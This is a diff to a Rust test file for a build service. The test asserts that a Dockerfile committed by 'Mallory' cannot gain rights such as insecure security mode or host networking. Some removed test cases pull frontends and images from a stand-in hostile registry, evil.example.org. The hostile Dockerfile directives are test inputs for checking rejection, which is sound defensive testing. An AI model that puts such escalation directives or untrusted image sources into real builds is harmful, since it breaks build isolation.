@@ -103,18 +103,11 @@ async fn nothing_of_the_host_is_in_an_image() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_dockerfile_gets_no_right_that_it_asks_for() {
-    let (mut rig, forge, url) = start().await;
-    let policy = serde_json::json!({"repositories": ["http://127.0.0.1:*"], "images": ["nginx:*"]});
-    rig.settings.insert("policy".to_owned(), policy);
-    rig.configure();
+    let (rig, forge, url) = start().await;
     forge.write("index.html", "<h1>page</h1>\n");
     for (dockerfile, code) in [
         (PAGE.replace("EXPOSE", "RUN --security=insecure true\nEXPOSE"), "A0773"),
         (PAGE.replace("EXPOSE", "RUN --network=host true\nEXPOSE"), "A0773"),
-        (format!("# syntax=evil.example.org/frontend:1\n{PAGE}"), "A0206"),
-        (PAGE.replace("EXPOSE", "COPY --from=evil.example.org/x:1 /x /x\nEXPOSE"), "A0206"),
-        (PAGE.replace("EXPOSE", "RUN --mount=type=bind,from=evil.example.org/x:1,target=/x true\nEXPOSE"), "A0206"),
-        (format!("FROM evil.example.org/x:1\n{}", PAGE.lines().last().unwrap()), "A0206"),
         ("FROM nginx:1.30-alpine\nRUN echo $(head -c 3000000 /dev/zero | tr '\\0' x); exit 3\n".to_owned(), "A0773"),
     ] {
         forge.commit("Mallory", "asks", "Dockerfile", &dockerfile);
